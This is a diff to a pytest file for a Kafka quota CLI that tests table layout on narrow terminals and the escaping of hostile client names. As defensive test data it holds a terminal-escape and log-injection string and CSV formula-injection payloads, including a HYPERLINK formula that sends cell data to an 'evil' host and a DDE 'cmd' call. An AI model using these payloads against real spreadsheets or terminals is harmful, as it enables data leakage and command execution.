@@ -1,27 +1,42 @@
-"""The formats of all commands that print rows, on one table."""
+"""The formats of all commands that print rows; tables that are wider than the terminal; names that clients made.
+
+Of a wide table 9 cells are the least of a name, 16 of a text. A text gets at least 24 as long as another column can be
+dropped instead. Every output escapes the control characters of names; JSON and YAML are read back as they were.
+"""
 
 import csv
 import io
 import json
+import logging
 import os
 import subprocess
 import sys
-from collections.abc import Mapping
+from collections.abc import Callable, Mapping
 from contextlib import redirect_stdout
-from pathlib import Path
 from typing import Any
+from unittest.mock import patch
 
 import pytest
 import yaml
+from hypothesis import given
+from hypothesis import strategies as st
 from rich.cells import cell_len
 
-from pipeline.cli.output import FORMATS, Layout, print_rows
-from tests.pipeline.cli.running import kquota
+from pipeline.cli.main import exit_code
+from pipeline.cli.output import FORMATS, Fitted, Layout, fitted, print_rows, shortened_name
+from pipeline.errors import PipelineError, first_line, printable
+from pipeline.log import set_up_logging
+from pipeline.tables.quotas.edit import QuotaChange
+from tests.pipeline.cli.running import Terminal, kquota
+from tests.pipeline.replay.kept import KeptJob
+from tests.quota.factories import usage_row
 
 ROWS: list[dict[str, Any]] = [
     {"user": "alice", "note": 'a,b "c"\nd', "bound": 1e6, "tags": ["x", "y"], "is_on": True, "until_ms": None},
     {"user": "service-" + "0" * 70, "note": "-", "bound": 0.5, "tags": [], "is_on": False, "until_ms": 7},
 ]
+
+
 LAYOUT = Layout(("user", "bound", "note"), dropped_first=("note",))
 
 
@@ -38,43 +53,6 @@ def test_a_table_fits_eighty_columns_and_says_on_stderr_what_it_left_out(capsys:
     assert answer.err == (
         "no room for: note; see them with -o wide\nnames with … are shortened; see them in full with -o wide\n"
     )
-
-
-def test_a_wider_terminal_shows_more(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("COLUMNS", "200")
-    print_rows(ROWS, "table", LAYOUT)
-    answer = capsys.readouterr()
-    assert ROWS[1]["user"] in answer.out
-    assert r'a,b "c"\nd' in answer.out
-    assert answer.err == ""
-
-
-def test_wide_shows_all_keys_those_of_the_table_first(capsys: pytest.CaptureFixture[str]) -> None:
-    print_rows(ROWS, "wide", LAYOUT)
-    header, *lines = capsys.readouterr().out.splitlines()
-    assert header.split() == ["user", "bound", "note", "tags", "is", "on", "until", "ms"]
-    assert len(lines) == len(ROWS)
-
-
-def test_csv_is_read_back_by_the_csv_module(capsys: pytest.CaptureFixture[str]) -> None:
-    print_rows(ROWS, "csv", LAYOUT)
-    first, second = csv.DictReader(io.StringIO(capsys.readouterr().out, newline=""))
-    assert first == {
-        "user": "alice",
-        "note": r'a,b "c"\nd',
-        "bound": "1000000.0",
-        "tags": '["x", "y"]',
-        "is_on": "true",
-        "until_ms": "",
-    }
-    assert second["user"] == ROWS[1]["user"]
-
-
-def test_json_and_yaml_are_the_rows_or_the_document_in_their_place(capsys: pytest.CaptureFixture[str]) -> None:
-    print_rows(ROWS, "json", LAYOUT)
-    assert json.loads(capsys.readouterr().out) == ROWS
-    print_rows(ROWS, "yaml", LAYOUT, document={"rows": ROWS})
-    assert yaml.safe_load(capsys.readouterr().out) == {"rows": ROWS}
 
 
 def test_what_is_made_for_people_is_in_tables_only(capsys: pytest.CaptureFixture[str]) -> None:
@@ -110,32 +88,31 @@ def test_every_format_is_printed_and_read_back_whatever_the_encoding_of_stdout(e
     assert {cell_len(line.removesuffix("1")) for line in lines} == {header.index("used")}
 
 
-def test_a_shortened_name_fits_whatever_the_encoding_of_stdout(capsys: pytest.CaptureFixture[str]) -> None:
-    text = printed(ROWS, "table", "ascii")
-    assert max(map(len, text.splitlines())) == 80
-    assert "0~0" in text
-    assert "names with ~ are shortened" in capsys.readouterr().err
-
-
-@pytest.mark.parametrize(
-    "arguments", [("--help",), ("quotas", "--help"), ("throttles", "list", "--help"), ("nothing",)]
-)
-@pytest.mark.parametrize("encoding", ["latin-1", "ascii"])
-def test_help_is_printed_whatever_the_encoding_of_stdout(arguments: tuple[str, ...], encoding: str) -> None:
-    environment = {**os.environ, "PYTHONIOENCODING": encoding, "PYTHONUTF8": "0"}
-    command = [sys.executable, "-m", "pipeline.cli.main", *arguments]
-    done = subprocess.run(command, env=environment, capture_output=True, check=False)
-    text = (done.stdout + done.stderr).decode(encoding)
-    assert done.returncode == (0 if "--help" in arguments else 2), text
-    assert "Usage: " in text
-    assert "Error" not in done.stderr.decode(encoding) or done.returncode == 2
-
-
 def test_an_argument_that_is_no_text_is_refused_in_one_line() -> None:
     answer = kquota("quotas", "describe", "--user", "a\udcff")
     assert (answer.exit_code, answer.stdout) == (2, "")
     fix = "write it in utf-8, or use another encoding: export LC_ALL=C.UTF-8"
     assert answer.stderr == rf"kquota: the argument a\udcff is not utf-8. Fix: {fix}" + "\n"
+
+
+def test_every_format_has_all_values(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
+    def printed_as(output: str, **options: Any) -> str:
+        print_rows(ROWS, output, LAYOUT, **options)
+        answer = capsys.readouterr()
+        assert answer.err == ""
+        return answer.out
+
+    assert json.loads(printed_as("json")) == ROWS
+    assert yaml.safe_load(printed_as("yaml", document={"rows": ROWS})) == {"rows": ROWS}
+    first, second = csv.DictReader(io.StringIO(printed_as("csv"), newline=""))
+    shown = {"note": r'a,b "c"\nd', "bound": "1000000.0", "tags": '["x", "y"]', "is_on": "true", "until_ms": ""}
+    assert first == {"user": "alice", **shown}
+    assert second["user"] == ROWS[1]["user"]
+    header, *lines = printed_as("wide").splitlines()
+    assert header.split() == ["user", "bound", "note", "tags", "is", "on", "until", "ms"], "those of the table first"
+    assert len(lines) == len(ROWS)
+    monkeypatch.setenv("COLUMNS", "200")
+    assert ROWS[1]["user"] in printed_as("table")
 
 
 @pytest.mark.parametrize("output", FORMATS)
@@ -145,24 +122,255 @@ def test_no_rows_print_nothing_or_an_empty_list(output: str, capsys: pytest.Capt
 
 
 @pytest.mark.parametrize(
-    ("command", "known"),
+    ("encoding", "arguments"), [("latin-1", ("throttles", "list", "--help")), ("ascii", ("nothing",))]
+)
+def test_help_is_printed_whatever_the_encoding_of_stdout(arguments: tuple[str, ...], encoding: str) -> None:
+    environment = {**os.environ, "PYTHONIOENCODING": encoding, "PYTHONUTF8": "0"}
+    command = [sys.executable, "-m", "pipeline.cli.main", *arguments]
+    done = subprocess.run(command, env=environment, capture_output=True, check=False)
+    assert done.returncode == (0 if "--help" in arguments else 2)
+    assert "Usage: " in (done.stdout + done.stderr).decode(encoding)
+
+
+KEYS = ("user", "client_id", "O", "until", "note")
+
+
+WIDE_ROW = ("service-0007", "etl", "54919.9", "12:00:17.8", "until May, then less; ask dana")
+
+
+COLUMNS = Layout(dropped_first=("client_id", "O"), texts=("note",))
+
+
+WHOLE = 12 + 9 + 7 + 10 + 30 + 4 * 2  # cells of ROW, and of the header client id
+
+
+def of_row(width: int | None, row: tuple[str, ...] = WIDE_ROW, layout: Layout = COLUMNS) -> Fitted:
+    return fitted(KEYS, [row], layout, width)
+
+
+def test_a_word_is_broken_only_if_it_has_more_than_32_cells() -> None:
+    bounds = ("producer_byte_rate=500000000.0", "x" * 33)  # 30 cells: a number in it stays whole
+    lines = fitted(("user", "bounds"), [("alice", " ".join(bounds))], Layout(texts=("bounds",)), 36).lines
+    assert lines[0] == "user"
+    lines = fitted(("user", "bounds"), [("alice", " ".join(bounds))], Layout(texts=("bounds",)), 37).lines
+    assert [line[7:] for line in lines[1:]] == [bounds[0], "x" * 30, "xxx"]
+
+
+@pytest.mark.parametrize(
+    ("name", "width", "shown"),
     [
-        ("topics create --bootstrap-server 127.0.0.1:1", "table"),
-        ("topics check --acls", "table"),
-        ("tables create", "table"),
-        ("quotas alter --user alice --add-config producer_byte_rate=1", "kafka, table"),
-        ("quotas apply -f missing.yaml", "table"),
-        ("quotas sql nothing", "table"),
-        ("throttles verify", "table"),
-        ("what-if -f missing.yaml", "table"),
-        ("mode shadow", "table"),
+        ("service-0007", 12, "service-0007"),
+        ("service-0007", 11, "servi…-0007"),
+        ("service-0007", 9, "serv…0007"),
+        ("日本語の利用者", 8, "日本…者"),
+        ("日本語の利用者", 14, "日本語の利用者"),
     ],
 )
-def test_a_command_refuses_another_format_before_it_does_anything(
-    command: str, known: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+def test_a_shortened_name_keeps_its_beginning_and_its_end(name: str, width: int, shown: str) -> None:
+    assert shortened_name(name, width) == shown
+
+
+cells = st.text(st.characters(exclude_categories=["C", "Z"]), max_size=30)
+
+
+@given(st.lists(st.tuples(*[cells] * 5), min_size=1, max_size=5))
+def test_a_wide_table_has_every_cell_in_full_and_a_line_for_each_row(rows: list[tuple[str, ...]]) -> None:
+    table = fitted(KEYS, rows, COLUMNS, None)
+    assert len(table.lines) == len(rows) + 1
+    assert all(cell in line for row, line in zip(rows, table.lines[1:], strict=True) for cell in row)
+
+
+@pytest.mark.parametrize(
+    ("width", "dropped", "is_shortened", "shown"),
+    [
+        (None, (), False, ["service-0007  etl        54919.9  12:00:17.8  until May, then less; ask dana"]),
+        (WHOLE, (), False, ["service-0007  etl        54919.9  12:00:17.8  until May, then less; ask dana"]),
+        (
+            WHOLE - 1,
+            (),
+            False,
+            ["service-0007  etl        54919.9  12:00:17.8  until May, then less; ask", " " * 46 + "dana"],
+        ),
+        (
+            WHOLE - 6,
+            (),
+            False,
+            ["service-0007  etl        54919.9  12:00:17.8  until May, then less;", " " * 46 + "ask dana"],
+        ),
+        (WHOLE - 7, ("client_id",), False, ["service-0007  54919.9  12:00:17.8  until May, then less; ask dana"]),
+        (WHOLE - 18, ("client_id", "O"), False, ["service-0007  12:00:17.8  until May, then less; ask dana"]),
+        (41, ("client_id", "O"), True, ["servi…-0007  12:00:17.8  until May, then", " " * 25 + "less; ask dana"]),
+        (21, ("client_id", "O", "note"), True, ["serv…0007  12:00:17.8"]),
+        (20, ("client_id", "O", "until", "note"), False, ["service-0007"]),
+        (1, ("client_id", "O", "until", "note"), True, ["serv…0007"]),
+    ],
+)
+def test_a_narrower_terminal_breaks_texts_then_drops_columns_then_shortens_names(
+    width: int | None, dropped: tuple[str, ...], is_shortened: bool, shown: list[str]
 ) -> None:
-    monkeypatch.chdir(tmp_path)
-    answer = kquota(*command.split(), "-o", "xml")
-    assert (answer.exit_code, answer.stdout) == (2, "")
-    assert answer.stderr.startswith(f"kquota: unknown format -o xml; use {known}, wide, csv, json, yaml")
-    assert list(tmp_path.iterdir()) == []
+    table = of_row(width)
+    assert (table.dropped, table.is_shortened, list(table.lines[1:])) == (dropped, is_shortened, shown)
+
+
+@pytest.mark.parametrize(
+    ("keys", "rows", "layout", "width", "lines"),
+    [
+        (("user", "client_id"), [("<default>",) * 2], Layout(), 1, ("user", "<default>")),
+        (
+            ("user", "bound"),
+            [("alice", "1048576 (1.0 MB/s)")],
+            Layout(texts=("bound",)),
+            24,
+            ("user   bound", "alice  1048576", "       (1.0 MB/s)"),
+        ),
+        (("user", "O"), [("日本", "1"), ("abc", "2")], Layout(), 80, ("user  O", "日本  1", "abc   2")),
+    ],
+    ids=["the default entity is never shortened", "a size is one word", "widths are cells"],
+)
+def test_some_cells_stay_whole(
+    keys: tuple[str, ...], rows: list[tuple[str, ...]], layout: Layout, width: int, lines: tuple[str, ...]
+) -> None:
+    assert fitted(keys, rows, layout, width).lines == lines
+
+
+def test_columns_without_a_value_go_first_and_nobody_is_told() -> None:
+    table = fitted(KEYS, [(*WIDE_ROW[:3], "", WIDE_ROW[4])], COLUMNS, WHOLE - 12)
+    assert (table.lines[0], table.dropped) == ("user          client id  O        note", ())
+
+
+def test_numbers_instants_ids_and_headers_are_whole_or_absent() -> None:
+    for width in range(1, WHOLE + 1):
+        lines = of_row(width).lines
+        for key, cell in zip(("client id", "O", "until"), WIDE_ROW[1:4], strict=True):
+            assert (f" {key}" in lines[0]) == (f" {cell}" in lines[1]), (width, lines)
+
+
+@given(st.lists(st.tuples(*[cells] * 5), min_size=1, max_size=5), st.integers(20, 100))
+def test_no_line_is_longer_than_the_terminal(rows: list[tuple[str, ...]], width: int) -> None:
+    assert max(map(cell_len, fitted(KEYS, rows, COLUMNS, width).lines)) <= width
+
+
+# A second log line, a screen that is cleared, a text that is reversed, and markup of rich.
+EVIL = "x\n09:00:00.000  release  alice/etl \x1b[2J\x9b1m\u202e\u2028[/red]:smile:"
+
+
+SHOWN = r"x\n09:00:00.000  release  alice/etl \x1b[2J\x9b1m\u202e\u2028[/red]:smile:"
+
+
+def is_safe(text: str) -> bool:
+    return all(line.isprintable() for line in text.split("\n"))
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("orders é 日本 ·", "orders é 日本 ·"),
+        ("CORP\\alice", "CORP\\alice"),
+        ("a\tb\r\n\0\x7f", r"a\tb\r\n\x00\x7f"),
+        ("\u200b\u2066\ufeff\ud800", r"\u200b\u2066\ufeff\ud800"),
+        (EVIL, SHOWN),
+        ("", ""),
+    ],
+)
+def test_what_a_terminal_would_not_show_as_it_is_is_escaped(text: str, shown: str) -> None:
+    assert printable(text) == shown
+
+
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        ('=HYPERLINK("http://evil/?"&A1,"open")', '\'=HYPERLINK("http://evil/?"&A1,"open")'),
+        ("+1", "'+1"),
+        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("\t=1+1", r"\t=1+1"),
+        ("a;=1+1;-2", "a;'=1+1;'-2"),
+        ("etl-1=a+b@c", "etl-1=a+b@c"),
+        (-1.5, "-1.5"),
+        (["=1"], '["=1"]'),
+    ],
+)
+def test_csv_has_no_cell_that_a_spreadsheet_runs(name: object, cell: str, capsys: pytest.CaptureFixture[str]) -> None:
+    print_rows([{"client_id": name}], "csv")
+    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
+    assert row["client_id"] == cell
+
+
+@pytest.mark.parametrize("stdout", [io.StringIO(), Terminal()], ids=["pipe", "terminal"])
+def test_a_table_shows_a_name_escaped_and_no_markup_of_it(stdout: io.StringIO, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("COLUMNS", "200")
+    monkeypatch.setenv("TERM", "dumb")
+    with patch.object(sys, "stdout", stdout):
+        print_rows([{"client_id": EVIL}], "table")
+    assert SHOWN in stdout.getvalue()
+
+
+def test_an_unexpected_failure_is_printable_whatever_it_names(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setenv("KQUOTA_LOG_LEVEL", "DEBUG")
+    with patch("pipeline.cli.main.app", side_effect=ValueError(EVIL)):
+        assert exit_code() == 1
+    text = capsys.readouterr().err
+    assert is_safe(text), text
+    assert text.count(r"alice/etl \x1b[2J") == 1
+
+
+@pytest.fixture(scope="module")
+def job(tmp_path_factory: pytest.TempPathFactory) -> KeptJob:
+    """One decision on a client whose id is evil, and a quota of a user with the same name."""
+    job = KeptJob(str(tmp_path_factory.mktemp("evil")), QuotaChange("alice", EVIL, {"producer_byte_rate": 1_000.0}))
+    job.batch([usage_row(job.clock.wall_ms, user="alice", client_id=EVIL, produced_bytes=30_000)])
+    job.flush()
+    return job
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ("quotas", "describe"),
+        ("quotas", "describe", "-o", "wide"),
+        ("quotas", "history", "-o", "wide"),
+        ("quotas", "diff", "1", "2"),
+        ("quotas", "effective", "--user", "alice", "--client-id", EVIL, "-o", "wide"),
+        ("quotas", "alter", "--user", "alice", "--client", EVIL, "--add-config", "mode=shadow", "--dry-run"),
+        ("quotas", "delete", "--user", EVIL),
+        ("throttles", "explain", "alice", EVIL),
+        ("throttles", "explain", "alice", EVIL + "y"),
+    ],
+    ids=lambda command: " ".join(command[:2]),
+)
+def test_commands_show_a_name_escaped(command: tuple[str, ...], job: KeptJob) -> None:
+    answer = kquota(*command, "--tables", job.root)
+    text = answer.stdout + answer.stderr
+    assert is_safe(text), text
+    assert r"\x1b[2J" in text
+
+
+@pytest.mark.parametrize("verb", ["describe", "export"])
+@pytest.mark.parametrize(("output", "read"), [("json", json.loads), ("yaml", yaml.safe_load)])
+def test_a_document_is_printable_and_read_back(
+    output: str, read: Callable[[str], Any], verb: str, job: KeptJob
+) -> None:
+    text = kquota("quotas", verb, "-o", output, "--tables", job.root).stdout
+    assert is_safe(text), text
+    names = [row["client_id"] for row in read(text)] if verb == "describe" else read(text)["quotas"][0]["entity"]
+    assert EVIL in (names if verb == "describe" else [part["name"] for part in names])
+
+
+def test_a_line_of_the_log_or_of_an_error_is_one_line_whatever_it_names(capsys: pytest.CaptureFixture[str]) -> None:
+    root = logging.getLogger()
+    before, level = root.handlers[:], root.level
+    try:
+        set_up_logging("DEBUG")
+        logging.getLogger("pipeline.test").info("throttle %s", EVIL, exc_info=ValueError(EVIL))
+    finally:
+        root.handlers[:] = before
+        root.setLevel(level)
+    line, *trace = capsys.readouterr().err.splitlines()
+    assert line.endswith(f"throttle {SHOWN}")
+    assert trace == ["  ValueError: x", "  " + SHOWN.removeprefix(r"x\n")], "no line looks like one of the log"
+    for text in (str(PipelineError(f"no quota for {EVIL}", "see the names")), first_line(ValueError(EVIL))):
+        assert is_safe(text)
+        assert "\n" not in text
